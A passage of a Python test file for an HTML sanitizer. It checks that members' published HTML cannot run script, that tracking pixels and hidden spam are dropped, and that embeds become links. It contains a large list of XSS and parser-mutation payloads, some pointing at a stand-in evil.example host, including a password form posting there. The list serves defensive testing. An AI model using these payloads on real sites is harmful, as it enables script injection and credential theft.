"""HTML and titles as members publish them, and what readers get of them."""

from __future__ import annotations

import re
import sys
import time
import unicodedata
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from xml.etree import ElementTree

import lxml.html
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from hub import markup
from hub.markup import Cleaned, as_html, clean, title_text

BASE = "https://example.org/news/story"

# ---------------------------------------------------------------- an independent reading of what is published


def names(text: str) -> set[str]:
    return set(text.split())


ELEMENTS = names("""
    a abbr address article aside audio b bdi bdo blockquote br caption center cite code col colgroup dd del
    details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li mark ol p
    picture pre q rp rt ruby s samp section small source span strike strong sub summary sup table tbody td
    tfoot th thead time tr track u ul var video wbr
""")
ATTRIBUTES = names("""
    alt cite colspan controls datetime dir height href hreflang kind label lang media open poster preload
    reversed rowspan scope sizes span src srclang srcset start title type value width
""")
LINKS = {"href", "src", "poster", "cite"}

Tag = tuple[str, dict[str, str]]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[Tag] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def tags_by_html_parser(html: str) -> list[Tag]:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.tags


def tags_by_lxml(html: str) -> Iterator[Tag]:
    for element in lxml.html.fromstring(f"<div>{html}</div>").iter():
        assert isinstance(element.tag, str), f"a comment or instruction in {html!r}"
        yield element.tag, {str(name): str(value) for name, value in element.items()}


def as_xml(text: str) -> str:
    return f"<x>{text.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')}</x>"


def assert_harmless(html: str) -> None:
    for tag, attributes in [*tags_by_html_parser(html), *tags_by_lxml(html)]:
        assert tag in ELEMENTS, html
        assert set(attributes) <= ATTRIBUTES, html
        for name, value in attributes.items():
            if name in LINKS:
                schemes = ("http:", "https:", "mailto:", "tel:") if name == "href" else ("http:", "https:")
                assert value.lower().startswith(schemes), html
            if name == "srcset":
                for candidate in value.split(", "):
                    assert candidate.lower().startswith(("http://", "https://")), html
    assert "<!--" not in html
    ElementTree.fromstring(as_xml(html))


@pytest.fixture(autouse=True)
def _no_swallowed_errors(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    # nh3 hands what its callback raises to this hook, and goes on.
    raised: list[object] = []
    monkeypatch.setattr(sys, "unraisablehook", raised.append)
    yield
    assert not raised


# ---------------------------------------------------------------- markup that must not run

VECTORS = {
    "script": [
        "<script>ran()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>ran()</scr</script>ipt>",
        "<script\n/x>ran()</script\n>",
        "<scr\x00ipt>ran()</scr\x00ipt>",
        "<script>ran()",
        "<<script>ran()//<</script>",
    ],
    "handlers": [
        "<img src=x onerror=ran()>",
        "<img/src=x/onerror=ran()>",
        "<p onclick='ran()' ONMOUSEOVER=ran()>p</p>",
        "<details open ontoggle=ran()>d</details>",
        "<body onload=ran()>b",
        "<input autofocus onfocus=ran()>",
        "<video><source onerror=ran()></video>",
        "<video src=x onloadstart=ran() autoplay></video>",
        "<a href=x onfocus\t=ran() tabindex=0 accesskey=x>a</a>",
        "<marquee onstart=ran()>m</marquee>",
        '<img alt="x" title="`" onerror=`ran()`>',
        "<img alt='\"onerror=ran() x=\"'>",
    ],
    "links": [
        "<a href=javascript:ran()>a</a>",
        "<a href='JaVaScRiPt:ran()'>a</a>",
        "<a href='java&#10;script:ran()'>a</a>",
        "<a href='java\tscript:ran()'>a</a>",
        "<a href='&#1;javascript:ran()'>a</a>",
        "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:ran()'>a</a>",
        "<a href='java\x00script:ran()'>a</a>",
        "<a href=' vbscript:ran()'>a</a>",
        "<a href='data:text/html,<script>ran()</script>'>a</a>",
        "<a href=view-source:javascript:ran()>a</a>",
        "<a href=feed:javascript:ran()>a</a>",
        "<a href=file:///etc/passwd>a</a>",
        "<a href=x ping=//evil.example/ target=_top download>a</a>",
        "<a xlink:href=javascript:ran()>a</a>",
        "<blockquote cite=javascript:ran()>q</blockquote>",
        "<video poster=javascript:ran() src=javascript:ran()></video>",
        "<img src='javascript:ran()' lowsrc=javascript:ran() dynsrc=javascript:ran()>",
        "<img src=data:image/svg+xml,<svg/onload=ran()>>",
    ],
    "srcset": [
        "<img srcset='javascript:ran() 1x, data:text/html,x 2x, /good.png 3x'>",
        "<source srcset='javascript:ran()'>",
        "<img data-src='javascript:ran()' src='data:,'>",
        "<img data-srcset='javascript:ran() 1x' data-original='vbscript:x'>",
        "<img data-src='x\" onerror=ran() y=\"'>",
        "<img data-src=x'onerror=ran()>",
    ],
    "style": [
        "<style>body{display:none}</style>",
        "<p style='position:fixed;background:url(javascript:ran())' class=admin id=login>cover</p>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        '<div style="width:expression(ran())">x</div>',
    ],
    "frames": [
        "<iframe src=javascript:ran()></iframe>",
        "<iframe srcdoc='<script>ran()</script>'></iframe>",
        "<frameset><frame src=javascript:ran()></frameset>",
        "<object data=javascript:ran()><param name=x></object>",
        "<embed src=javascript:ran()>",
        "<portal src=javascript:ran()></portal>",
        "<applet code=x></applet>",
    ],
    "svg and math": [
        "<svg onload=ran()></svg>",
        "<svg><script>ran()</script></svg>",
        "<svg><a xlink:href=javascript:ran()><text y=9>t</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:ran() /></svg>",
        "<svg><foreignObject><iframe src=javascript:ran()></iframe></foreignObject></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=ran()>#x'/></svg>",
        "<math href=javascript:ran()>m</math>",
        "<math><maction actiontype=statusline#x xlink:href=javascript:ran()>m</maction></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=ran()></annotation-xml></math>",
    ],
    "mutation": [
        "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
        "<svg></p><style><a id='</style><img src=x onerror=ran()>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran()&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
        "<textarea><img title='</textarea><img src=x onerror=ran()>'>",
        "<title><a title='</title><img src=x onerror=ran()>'>",
        "<xmp><p title='</xmp><img src=x onerror=ran()>'>",
        "<listing>&lt;img src=x onerror=ran()&gt;</listing>",
        "<template><script>ran()</script><img src=x onerror=ran()></template>",
        "<select><style></select><img src=x onerror=ran()></style>",
        "<plaintext><img src=x onerror=ran()>",
        "<noembed><img title='</noembed><img src=x onerror=ran()>'></noembed>",
        "<iframe><img title='</iframe><img src=x onerror=ran()>'></iframe>",
        "<p title='&lt;/p>&lt;img src=x onerror=ran()&gt;'>p</p>",
        "&lt;img src=x onerror=ran()&gt;",
        "<img alt='&lt;script&gt;ran()&lt;/script&gt;' src=x>",
        "&#60;script&#62;ran()&#60;/script&#62;",
        "&l&#8;t;script&g&#8;t;",
        "<img alt='a&#8;&#x1f;&#xfffe;b' src=x>",
    ],
    "page": [
        "<base href=http://evil.example/>",
        "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
        "<form action=//evil.example/><input type=password><button formaction=javascript:ran()>b</button>",
        "</div></article></main></body></html><h1>Outside</h1>",
        "<!-- never closed <img src=x onerror=ran()>",
        "<!--><img src=x onerror=ran()>-->",
        "<![CDATA[><img src=x onerror=ran()>]]>",
        "<?xml <img src=x onerror=ran()> ?>",
        "<a href='http://evil.example' title='never closed",
        "<custom-element onclick=ran() is=x>c</custom-element><slot name=x>",
        "<p lang='en\" onclick=ran()' dir='x'>p</p>",
    ],
}


@pytest.mark.parametrize(
    "vector",
    [pytest.param(vector, id=f"{kind}-{n}") for kind in VECTORS for n, vector in enumerate(VECTORS[kind])],
)
def test_nobodys_markup_runs(vector: str) -> None:
    for html in (vector, f"<p>Before</p>{vector}<p>After</p>", f"<div><b>{vector}", vector * 60):
        cleaned = clean(html, base=BASE)
        assert_harmless(cleaned.html)
        again = clean(cleaned.html, base=BASE)
        assert_harmless(again.html)
        assert again.text == cleaned.text


def test_words_around_what_is_dropped_are_kept() -> None:
    cleaned = clean(
        "<p>One</p><script>two</script><style>three</style><p>four <iframe>five</iframe>"
        "<custom>six</custom></p>"
        "<noscript>seven</noscript><svg><title>eight</title></svg><form><label>nine</label></form>",
        base=None,
    )
    assert cleaned.html == "<p>One</p><p>four six</p>nine"
    assert cleaned.text == "One\nfour six\nnine"


MARKUP = st.sampled_from([vector for kind in VECTORS.values() for vector in kind])
PIECES = st.sampled_from(
    [
        "<",
        ">",
        "</",
        "/>",
        "<p>",
        "</p>",
        "<b>",
        "</b>",
        "<a href=",
        "<img src=",
        "<td>",
        "<table>",
        "<svg>",
        "<math>",
        "</math>",
        "<style>",
        "<!--",
        "-->",
        "'",
        '"',
        "=",
        "&",
        "&#",
        ";",
        "&lt;",
        "&amp;",
        "&nbsp;",
        "\x00",
        "\x0b",
        "\ud800",
        "\ufffe",
        "\u202e",
        "\xa0",
        "\r",
        "\n",
        " ",
        "x",
    ]
)


@given(st.lists(PIECES | MARKUP | st.text(max_size=5), max_size=30).map("".join))
def test_any_text_becomes_harmless_html_that_xml_can_hold(html: str) -> None:
    cleaned = clean(html, base=BASE)
    assert_harmless(cleaned.html)
    again = clean(cleaned.html, base=BASE)
    assert_harmless(again.html)
    for text in (
        cleaned.text,
        markup.plain(html),
        markup.escape(html),
        markup.line(html),
        title_text(html, type=None),
    ):
        ElementTree.fromstring(as_xml(text))
    assert_harmless(markup.escape(html))


@example("\ufdd0words\ufdd1 more")
@example("\ufeff\ufeffwords")
@given(st.text(st.characters(exclude_characters="<&")))
def test_a_text_without_markup_is_published_as_a_parser_would_read_it(text: str) -> None:
    quick, parsed = clean(text, base=None), clean(text + "<!-- -->", base=None)
    assert (quick.html, quick.text) == (parsed.html, parsed.text)


@pytest.mark.parametrize(
    "begin", ["\ufdd0", "&#xFDD0;", "&#64976;", "&#64976a", "&#x0fdd0", "&#x&#xfdd0;fdd0;"]
)
def test_what_looks_like_our_own_marks_hides_no_words(begin: str) -> None:
    player = '<iframe src="https://player.vimeo.com/video/12"></iframe>'
    for html in (f"<p>One {begin} two &#xfdd1; three</p>", f"<p>One {begin} two</p>{player}<p>three</p>"):
        cleaned = clean(html, base=None)
        assert "One" in cleaned.text
        assert "two" in cleaned.text
        assert "three" in cleaned.text
        assert "\ufdd0" not in cleaned.html + cleaned.text


# ---------------------------------------------------------------- what readers see


def test_news_keeps_its_structure() -> None:
    html = (
        '<h2>Head</h2><p dir="rtl" lang="ar">A <strong>b</strong> <em>c</em> '
        '<a href="https://a.example/?b=1&amp;c=2" title="t">d</a><br>e</p>'
        '<ul><li>f</li></ul><ol start="3"><li value="4">g</li></ol><blockquote cite="https://a.example/"><p>h</p></blockquote>'
        "<pre><code>i &lt; j\n  k</code></pre><dl><dt>l</dt><dd>m</dd></dl>"
        '<table><caption>n</caption><thead><tr><th scope="col">o</th></tr></thead>'
        '<tbody><tr><td colspan="2">p</td></tr></tbody></table>'
        '<figure><picture><source srcset="https://a.example/1.webp 100w, https://a.example/2.webp 200w" '
        'sizes="(max-width: 5em) 5em, 9em" '
        'type="image/webp"><img src="https://a.example/1.png" alt="q" width="300" height="200">'
        "</picture><figcaption>r</figcaption></figure>"
    )
    assert clean(html, base=None).html == html
    assert clean(html, base=None).text.split() == [*"Head A b c d e f g h i < j k l m n o p r".split()]  # noqa: SIM905


@pytest.mark.parametrize(
    ("frame", "link"),
    [
        (
            '<iframe title="Our year &amp; yours" src="https://www.youtube.com/embed/a-b_c123456?feature=oembed">',
            '<a href="https://www.youtube.com/watch?v=a-b_c123456">Our year &amp; yours (youtube.com)</a>',
        ),
        (
            "<IFRAME SRC=https://player.vimeo.com/video/123?h=1 width=640>",
            '<a href="https://vimeo.com/123">vimeo.com</a>',
        ),
        (
            "<iframe src='about:blank' data-src='//radio.example/embed/1?a=b&amp;c=d'>",
            '<a href="https://radio.example/embed/1?a=b&amp;c=d">radio.example</a>',
        ),
        (
            '<iframe data-cookieblock-src="https://www.youtube.com/embed/a-b_c123456" title="Film">',
            '<a href="https://www.youtube.com/watch?v=a-b_c123456">Film (youtube.com)</a>',
        ),
        (
            '<object data="/papers.pdf" type="application/pdf" title="Board papers"></object>',
            '<a href="https://example.org/papers.pdf">Board papers (example.org)</a>',
        ),
        (
            '<object data="/papers.pdf"><embed src="https://example.org/papers.pdf"></object>',
            '<a href="https://example.org/papers.pdf">example.org</a>',
        ),
        (
            '<object><param name="movie" value="x"><embed src="https://www.youtube.com/v/a-b_c123456"></object>',
            '<a href="https://www.youtube.com/watch?v=a-b_c123456">youtube.com</a>',
        ),
        (
            '<iframe src="//cdn.embedly.com/widgets/media.html?src=https%3A%2F%2Fplayer.example%2F1'
            '&amp;url=https%3A%2F%2Fwww.ted.com%2Ftalks%2Fann%3Fa%3Db%26c%3Dd&amp;schema=ted" title="Talk">',
            '<a href="https://www.ted.com/talks/ann?a=b&amp;c=d">Talk (ted.com)</a>',
        ),
        (
            '<iframe src="https://cdn.embedly.com/widgets/media.html?url=javascript:alert(1)">',
            '<a href="https://cdn.embedly.com/widgets/media.html?url=javascript:alert(1)">cdn.embedly.com</a>',
        ),
        (
            '<iframe src="/map" title="<b>Map</b> &lt;3">',
            '<a href="https://example.org/map">&lt;b&gt;Map&lt;/b&gt; &lt;3 (example.org)</a>',
        ),
    ],
)
def test_a_player_of_another_site_is_a_link_whose_words_are_not_the_texts(frame: str, link: str) -> None:
    shown = clean(f"<p>Watch: {frame}</iframe></p><p>After</p>", base=BASE)
    assert shown.html == f"<p>Watch: {link} </p><p>After</p>"
    assert shown.text == "Watch:\nAfter"


@pytest.mark.parametrize(
    "html",
    [
        '<iframe src="https://www.googletagmanager.com/ns.html?id=G" title=x></iframe>',
        '<iframe src="https://count.example/" width="1" height=0></iframe>',
        '<iframe src="https://count.example/" style="border:0; display: none"></iframe>',
        '<iframe class="a wp-embedded-content" src="https://a.example/b/embed"></iframe>',
        '<iframe src="about:blank"></iframe>',
        '<iframe data-x="\ufdd0" srcdoc="words"></iframe>',
        '<!-- <iframe src="https://radio.example/"></iframe> -->',
        "<b data-later=\"<iframe src='https://radio.example/'></iframe>\"></b>",
        '<script>"<iframe src=https://radio.example/>"</script>',
        '<embed src="https://a.example/player.swf?a=b">',
        "<object><param name=movie value=player.swf></object>",
        '<div class="flourish-embed-not" data-src="visualisation/1"></div>',
    ],
)
def test_a_frame_that_shows_nothing_leaves_no_link(html: str) -> None:
    assert "<a" not in clean(html, base=BASE).html


def test_a_chart_that_a_script_draws_is_a_link() -> None:
    chart = (
        '<div class="flourish-embed flourish-chart" data-src="visualisation/1"><script>draw()</script></div>'
    )
    link = '<a href="https://public.flourish.studio/visualisation/1">public.flourish.studio</a>'
    assert clean(chart, base=BASE) == Cleaned(f"{link} <div></div>", "")


@pytest.mark.parametrize(
    ("written", "html", "text"),
    [
        ("We began.\n\n- one\r\n- two", "<p>We began.</p><p>- one<br>- two</p>", "We began.\n- one\n- two"),
        (" A & B\n \nC <3 &amp; D\n", "<p>A &amp; B</p><p>C &lt;3 &amp; D</p>", "A & B\nC <3 & D"),
    ],
)
def test_a_text_without_any_tag_keeps_its_paragraphs(written: str, html: str, text: str) -> None:
    # Earlier hubs had all of it on one line.
    assert clean(written, base=BASE) == Cleaned(html, text, misread=text.replace("\n", " "))


@pytest.mark.parametrize("written", ["\n\n One\n line \n\n", "<b>One</b>\n\nline", "<!-- a -->One\n\nline"])
def test_line_breaks_of_html_are_spaces(written: str) -> None:
    cleaned = clean(written, base=BASE)
    assert "<p>" not in cleaned.html
    assert (cleaned.text, cleaned.misread) == ("One line", None)


def test_the_marks_of_page_builders_are_no_words_of_a_text() -> None:
    built = (
        "<p>[vc_row css=&#8221;.vc_1{margin: 0}&#8221;][vc_column][vc_column_text]</p>\n<p>Beds [1] open.</p>"
        "<p>[/vc_column_text][vc_raw_html]JTNDYiUzRQ==[/vc_raw_html][/vc_column][/vc_row]</p>"
        '[et_pb_section fb_built="1"]<b>Now</b>[/et_pb_section] [av_hr] [vc_ row] [have_seen]'
    )
    shown = clean(built, base=BASE)
    assert shown.text == "Beds [1] open.\nNow [vc_ row] [have_seen]"
    assert "vc_column" not in shown.html
    # What an earlier hub took for words.
    assert shown.misread is not None
    assert "[vc_column_text]" in shown.misread
    assert clean("[vc_a" * 90_000, base=BASE).text.startswith("[vc_a")


def test_a_film_of_squarespaces_which_a_script_plays_is_a_link() -> None:
    frame = (
        "&lt;br&gt;&lt;iframe src=&quot;//www.youtube.com/embed/dQw4w9WgXcQ?wmode=opaque&quot;"
        " title=&quot;Our film&quot; allowfullscreen&gt;&lt;/iframe&gt;"
    )
    film = f'<div class="sqs-video-wrapper" data-provider-name="YouTube" data-html="{frame}"></div>'
    link = '<a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">Our film (youtube.com)</a>'
    assert clean(film, base=BASE) == Cleaned(f"{link} <div></div>", "")
    none = '<div class="sqs-video-wrapper" data-html="&lt;b&gt;"></div>'
    assert clean(none, base=BASE) == Cleaned("<div></div>", "")


def test_a_document_that_is_linked_beside_its_frame_is_linked_once() -> None:
    shown = clean('<object data="a.pdf"><a href="a.pdf">Read it</a></object>', base=BASE)
    assert shown.html == '<a href="https://example.org/news/a.pdf">Read it</a>'


@pytest.mark.parametrize(
    "hidden",
    [
        '<div style="display:none"><a href="https://casino.example/">casino</a></div>',
        '<div style="display : none !important"><div>one</div><div>two</div></div>',
        "<p hidden>draft</p>",
        '<p HIDDEN="hidden">draft</p>',
        "<div class=a style='position:absolute; left: -9999px'><a href=\"https://pills.example/\">pills</a></div>",
        '<span id="a" style="text-indent:-999em">pills</span>',
        '<span class="preview" style="display:none;font-size:0px;max-height:0px">preheader</span>',
        '<div id="preview" style="max-height: 0; overflow: hidden; display: none">preheader</div>',
        '<span class="preview" style="mso-hide:all">preheader</span>',
        "<p hidden=until-then title=' id=a class=b '>draft</p>",
        '<div title="words" style=display:none>pills</div>',
        '<i style="visibility:hidden"><!-- </i> --><script>"</i>"</script>pills<br></i>',
    ],
)
def test_what_a_publishers_page_hides_is_shown_nowhere(hidden: str) -> None:
    shown = clean(f"<p>One</p>{hidden}<p>Two <b>three</b></p>{hidden}", base=BASE)
    assert shown.html == "<p>One</p><p>Two <b>three</b></p>"
    assert shown.text == "One\nTwo three"


@pytest.mark.parametrize(
    "shown",
    [
        # The rest of a text that unfolds, which a script finds.
        '<div id="answer-1" style="display:none">words</div>',
        '<div class="more" hidden>words</div>',
        '<div hidden="until-found">words</div>',
        '<div style="overflow:hidden">words</div>',
        '<div data-hidden="hidden" title="display:none">words</div>',
        "<div hidden='until-found'>words</div>",
        # What a value says is no attribute.
        '<p>Read <a href="/r" title="The hidden cost of care">words</a></p>',
        '<div data-title="Our hidden heroes"><p>words</p></div>',
        "<p title=\"set style='display:none' on it\">words</p>",
        "<p data-x=' style=\"display:none\" '>words</p>",
        "<div style=\"font-family:'x'\" title='Not hidden at all'>words</div>",
        '<div style="left:-20px;font-size:0.9em">words</div>',
        '<div style="margin-left:-1000px;top:-200px">words</div>',
        # Newsletters space their columns so.
        '<table><tr><td style="font-size:0px"><div style="font-size:16px">words</div></td></tr></table>',
        # Never closed, or too soon.
        '<div style="display:none">words',
        "<p hidden>words<p>more",
        '<img style="display:none" src="a.png">words',
        '<!-- <div style="display:none"> -->words</div>',
    ],
)
def test_what_a_script_may_show_or_what_is_never_closed_stays(shown: str) -> None:
    assert "words" in clean(shown, base=BASE).text


def test_what_earlier_hubs_took_for_hidden_is_known_of_a_text() -> None:
    misread = '<div data-title="Our hidden heroes"><p>One</p></div>'
    open_still = '<b title="a hidden gem">Two<i hidden>three</i>'
    assert clean(f"{misread}<p>Two</p><i hidden>x</i>", base=BASE) == Cleaned(
        "<div><p>One</p></div><p>Two</p>", "One\nTwo", misread="Two"
    )
    assert clean(open_still, base=BASE).misread == "Twothree", "what was never closed hid nothing after it"
    assert clean('<div title="hidden"><i hidden>x</i>y</div>', base=BASE).misread is None


@pytest.mark.parametrize(
    "counter",
    [
        '<img src="https://a.example/x.gif" width="1" height="1" alt="">',
        '<img alt="" height="1" src="https://a.example/x.gif">',
        '<img width="0" src="https://a.example/x.gif">',
        '<img src="https://track.hubspot.com/__ptq.gif?a=1&amp;b=2">',
        '<img src="https://medium.com/_/stat?event=post.clientViewed">',
        '<img src="http://feeds.feedburner.com/~r/east/~4/x" alt="">',
        '<img src="https://pixel.wp.com/b.gif?host=a" alt="">',
        '<img src="https://a.example/tracking/rss-pixel.png?story=1">',
        '<img src="https://a.example/pixel.gif?story=1">',
        '<img src="https://a.example/x.gif" style="width:1px;height:1px">',
        "<img alt='' style='border: 0; height: 0 !important' src='https://a.example/x.gif'>",
        '<img src="https://a.example/x.gif" style="display: none">',
        "<img src=https://a.example/x.gif style=display:none>",
        '<img src="https://a.example/x.gif" style=width:1px title="the class=b of it">',
        '<img src="https://stats.example/chart.png">',
        '<img src="https://stats.example/chart.png" width="80" height="15">',
        # What a program wrote that had no address.
        '<img src="undefined">',
        '<img src="null" alt="">',
    ],
)
def test_a_picture_that_counts_readers_is_left_out(counter: str) -> None:
    shown = clean(f'<p>One</p>{counter}<img src="https://a.example/1.png" width="12" height="20">', base=BASE)
    assert shown.html == '<p>One</p><img src="https://a.example/1.png" width="12" height="20">'


@pytest.mark.parametrize(
    "written",
    [
        '<img class="lazy" src="a.png" style="display:none">',
        '<img src="a.png" id="later" style="width:1px">',
        '<img src="a.png" style="max-height:1px;border-width:1px;width:1.5em;height:100%">',
        '<img src="a.png" alt="style=display:none">',
        '<img src="a.png" alt="set style=\'display:none\' on it">',
        '<img alt="Waits" src="https://stats.example/chart.png" width="900" height="600">',
        '<img src="pixel-8-review.png">',
        '<img src="undefined.png">',
    ],
)
def test_a_picture_that_may_be_seen_is_no_such_picture(written: str) -> None:
    assert "<img" in clean(f"<p>One</p>{written}", base=BASE).html


def test_a_picture_of_a_character_stays() -> None:
    smiley = '<img src="https://s.w.org/images/core/emoji/1.png" alt="🙂" width="12" height="12">'
    assert clean(smiley, base=BASE).html == smiley


@pytest.mark.parametrize(
    ("value", "is_text", "html"),
    [
        ("<p>a</p>", False, "<p>a</p>"),
        (" <![CDATA[<p>a</p>]]> ", False, "<p>a</p>"),
        ("&lt;p&gt;a &amp;ndash; b&lt;/p&gt;", False, "<p>a &ndash; b</p>"),
        ("&lt;p&gt;a&lt;/p&gt;", True, "<p>a</p>"),
        ("It&#8217;s 1 &amp; 2", True, "<p>It’s 1 &amp; 2</p>"),
        ("R&D &#8217;", True, "<p>R&amp;D &amp;#8217;</p>"),
        ("<p>Hello <strong>world</strong></p>", True, "<p>Hello <strong>world</strong></p>"),
        # About HTML.
        ("Write &lt;p&gt;a&lt;/p&gt;", False, "Write &lt;p&gt;a&lt;/p&gt;"),
        ("&lt;p&gt; begins a paragraph", False, "&lt;p&gt; begins a paragraph"),
        ("<p>&lt;p&gt;a&lt;/p&gt;</p>", False, "<p>&lt;p&gt;a&lt;/p&gt;</p>"),
        ("&lt;p&gt;a&lt;/p&gt; is <b>one</b>", False, "&lt;p&gt;a&lt;/p&gt; is <b>one</b>"),
        ("a <p> and a </p>", True, "<p>a &lt;p&gt; and a &lt;/p&gt;</p>"),
        ("<p> begins it", True, "<p>&lt;p&gt; begins it</p>"),
    ],
)
def test_html_that_was_escaped_once_too_often_is_html(value: str, is_text: bool, html: str) -> None:
    assert as_html(value, is_text=is_text) == html


def test_what_stands_between_marks_of_links_is_text_where_a_publisher_wrote_them() -> None:
    marked = clean('\ufdd0one\ufdd1 <iframe src="https://radio.example/"></iframe>', base=BASE)
    assert marked.text == "one"
    assert marked.html == 'one <a href="https://radio.example/">radio.example</a> '


@pytest.mark.parametrize(
    "frame",
    [
        """<iframe src='//e.example/"><script>ran()</script>' title="&quot;><img src=x onerror=ran()>">""",
        "<iframe src=https://e.example/ title='</a><script>ran()</script>'>",
        "<svg><iframe src=https://e.example/ title='<img src=x onerror=ran()>'>",
        "<textarea><iframe src=https://e.example/ title='</textarea><img src=x onerror=ran()>'>",
        '<img alt=\'<iframe src="https://e.example/" title="--><img src=x onerror=ran()>">\'>',
    ],
)
def test_a_link_to_a_player_runs_nothing(frame: str) -> None:
    assert_harmless(clean(f"<p>Before {frame} after", base=BASE).html)


def test_a_recording_is_played_when_the_reader_says_so() -> None:
    cleaned = clean(
        "<video autoplay muted src=v.mp4 poster=p.jpg><track src=t.vtt kind=captions srclang=en></video>",
        base=BASE,
    )
    [(video, values), (track, captions)] = tags_by_html_parser(cleaned.html)
    assert (video, track) == ("video", "track")
    assert values == {
        "src": "https://example.org/news/v.mp4",
        "poster": "https://example.org/news/p.jpg",
        "controls": "",
        "preload": "none",
    }
    assert captions == {"src": "https://example.org/news/t.vtt", "kind": "captions", "srclang": "en"}
    assert 'controls=""' in clean("<audio src=a.mp3>", base=BASE).html


@pytest.mark.parametrize(
    ("attributes", "kept"),
    [
        ("href='more.html'", 'href="https://example.org/news/more.html"'),
        ("href='/x?a=1&amp;b=2'", 'href="https://example.org/x?a=1&amp;b=2"'),
        ("href='#fn1'", 'href="https://example.org/news/story#fn1"'),
        ("href='//cdn.example/x'", 'href="https://cdn.example/x"'),
        ("href=' https://a.example/ '", 'href="https://a.example/"'),
        ("href='https://a.example/a b'", 'href="https://a.example/a%20b"'),
        ("href='mailto:a@b.example?subject=A b'", 'href="mailto:a@b.example?subject=A%20b"'),
        ("href='tel:+44 20'", 'href="tel:+44%2020"'),
        ("href=''", ""),
        ("href='http://[::bad'", ""),
        ("href='http://user:secret@a.example/'", ""),
        ("href='ftp://a.example/'", ""),
    ],
)
def test_links_in_a_text_are_absolute_or_dropped(attributes: str, kept: str) -> None:
    assert clean(f"<a {attributes}>x</a>", base=BASE).html == f"<a {kept}>x</a>".replace(" >", ">")


def test_links_in_texts_that_are_cleaned_at_once_are_relative_to_the_base_of_each() -> None:
    html = '<a href="news">News</a><img src="ward.png">' * 200

    def cleaned(number: int) -> bool:
        base = f"https://member{number}.example/"
        own = f'<a href="{base}news">News</a><img src="{base}ward.png">'
        return clean(html, base=base).html == own * 200

    with ThreadPoolExecutor(4) as threads:
        assert all(threads.map(cleaned, range(40)))


def test_without_a_base_relative_links_are_dropped() -> None:
    assert clean("<a href=x>x</a><img src=y.png alt=y><a href=https://a.example/>z</a>", base=None).html == (
        '<a>x</a><a href="https://a.example/">z</a>'
    )


@pytest.mark.parametrize(
    ("srcset", "kept"),
    [
        ("a.png", "https://example.org/news/a.png"),
        ("a,1.png 1x, /b.png 2x", "https://example.org/news/a,1.png 1x, https://example.org/b.png 2x"),
        ("a.png 100w,b.png 200w", "https://example.org/news/a.png 100w, https://example.org/news/b.png 200w"),
        ("a.png, b.png 1.5x", "https://example.org/news/a.png, https://example.org/news/b.png 1.5x"),
        (" ,, a.png,,, b.png ,", "https://example.org/news/a.png, https://example.org/news/b.png"),
        ("a.png 100w 50h", "https://example.org/news/a.png 100w 50h"),
        ("javascript:ran() 1x, data:text/html,x 2x, b.png 3x", "https://example.org/news/b.png 3x"),
        ("a.png calc(1, 2) 1x, b.png", "https://example.org/news/b.png"),
        ("a.png huge, b.png -1x, c.png 0w, d.png 1x", "https://example.org/news/d.png 1x"),
        ("https://i.example/w_1,h_2/a.png 1x", "https://i.example/w_1,h_2/a.png 1x"),
        ("a.png (unclosed, b.png", None),
        ("", None),
    ],
)
def test_each_picture_of_a_srcset_is_absolute(srcset: str, kept: str | None) -> None:
    html = clean(f'<img src="x.png" srcset="{srcset}">', base=BASE).html
    [(_, values)] = tags_by_html_parser(html)
    assert values.get("srcset") == kept


@pytest.mark.parametrize(
    ("html", "source"),
    [
        ("<img data-src=lazy.png alt=a>", "lazy.png"),
        ("<img alt=a data-src='lazy.png' src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>", "lazy.png"),
        ('<img class="lazy" src="" data-lazy-src="lazy.png" />', "lazy.png"),
        ("<IMG DATA-ORIGINAL=lazy.png>", "lazy.png"),
        ("<img src='/a3-lazy-load/images/lazy_placeholder.gif' data-src=lazy.png>", "lazy.png"),
        ('<img data-lazy-src="lazy.png" src="//cdn.example/img/1x1.trans.gif?v=2">', "lazy.png"),
        ("<img src=highlazy.png data-src=lazy.png>", "highlazy.png"),
        ("<img data-src=lazy.png src=real.png>", "real.png"),
        ("<img alt='data-src=no.png > x' src=real.png data-src=lazy.png>", "real.png"),
        ("<img data-src=lazy.png><noscript><img src=real.png></noscript>", "lazy.png"),
    ],
)
def test_a_picture_that_a_script_would_load_is_shown(html: str, source: str) -> None:
    cleaned = clean(html, base=BASE)
    assert [values["src"] for _, values in tags_by_html_parser(cleaned.html)] == [
        f"https://example.org/news/{source}"
    ]
    assert cleaned.image == f"https://example.org/news/{source}"


def test_a_lazy_picture_keeps_its_sizes() -> None:
    html = "<img src='data:,' srcset='data:, 1w' data-src=a.png data-srcset='a.png 1x, b.png 2x'>"
    [(_, values)] = tags_by_html_parser(clean(html, base=BASE).html)
    assert values["srcset"] == "https://example.org/news/a.png 1x, https://example.org/news/b.png 2x"


def test_a_picture_without_a_source_is_not_published() -> None:
    html = (
        "<p>a<img alt='x &gt; y'>b<img src='data:image/png;base64,AA' alt=c>d"
        "<picture><source><img src=e.png></picture></p>"
    )
    assert (
        clean(html, base=BASE).html
        == '<p>abd<picture><img src="https://example.org/news/e.png"></picture></p>'
    )


@pytest.mark.parametrize(
    ("before", "image"),
    [
        ("", "https://example.org/photo.jpg?a=1&b=2"),
